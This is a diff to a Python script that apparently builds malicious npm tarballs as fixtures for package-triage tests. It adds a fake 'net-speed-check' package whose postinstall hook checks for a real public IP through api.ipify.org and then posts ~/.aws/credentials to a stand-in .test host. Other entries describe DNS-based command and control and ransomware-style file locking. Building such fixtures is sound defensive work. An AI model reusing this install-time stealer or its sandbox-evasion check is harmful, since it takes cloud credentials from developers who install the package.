@@ -2,7 +2,7 @@
 """Writes one of the npm tarballs the triage tests make on the fly. Only
 writes the archive: nothing of it runs here.
 
-  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage|solkey|cilog|envdump|esm|urldep|plant|plantrename|clipboard|clipper|aiagent|ssec2|wallet|walletok|noload|vmcheck|binonly|tmplog|ransom OUT.tgz
+  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage|solkey|cilog|envdump|esm|urldep|plant|plantrename|clipboard|clipper|aiagent|ssec2|wallet|walletok|noload|vmcheck|binonly|tmplog|ransom|ipfence OUT.tgz
 
 wallet  xrpl-wallet-kit: nothing at install or require; its static
         Wallet.fromSeed passes the seed to checkValidityOfSeed, which
@@ -49,6 +49,9 @@ dnsstage  sdk-version-resolver: its postinstall resolves a TXT record,
         base64-decodes the joined strings and runs them with new Function
         (C2 over DNS); the fake DNS's TXT stub, when run, creates the
         session's canary.
+ipfence net-speed-check: its postinstall asks api.ipify.org for its
+        public address and, only when the answer is one (a dotted quad in
+        plain text), posts ~/.aws/credentials to a .test name.
 ransom  node-fs-cleanup: its postinstall XORs every file of ~/Documents
         into NAME.locked, deletes the originals, leaves a ransom note and
         empties ~/.bash_history. Defanged: it acts only when the
@@ -376,6 +379,24 @@ PACKAGES = {
             "}\n"
             "fs.writeFileSync(path.join(dir, 'README-RESTORE.txt'), 'your files are locked\\n');\n"
             "fs.writeFileSync(path.join(home, '.bash_history'), '');\n", 0o644),
+    }),
+    "ipfence": npm_pkg({"name": "net-speed-check", "version": "1.0.0",
+                        "scripts": {"postinstall": "node check.js"}}, {
+        "check.js": (
+            "'use strict';\n"
+            "const https = require('https'), fs = require('fs'), os = require('os');\n"
+            "https.get('https://api.ipify.org', r => {\n"
+            "  let b = '';\n"
+            "  r.on('data', d => { b += d; });\n"
+            "  r.on('end', () => {\n"
+            "    // No public address in plain text: not a real network, stay quiet.\n"
+            "    if (!/^\\d+\\.\\d+\\.\\d+\\.\\d+\\s*$/.test(b)) return;\n"
+            "    const k = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');\n"
+            "    const q = https.request({host: 'collect.speed-stats.test', method: 'POST', path: '/r'});\n"
+            "    q.on('error', () => {});\n"
+            "    q.end(b.trim() + '\\n' + k);\n"
+            "  });\n"
+            "}).on('error', () => {});\n", 0o644),
     }),
     "tmplog": npm_pkg({"name": "inotify-probe", "version": "0.8.1",
                        "scripts": {"postinstall":
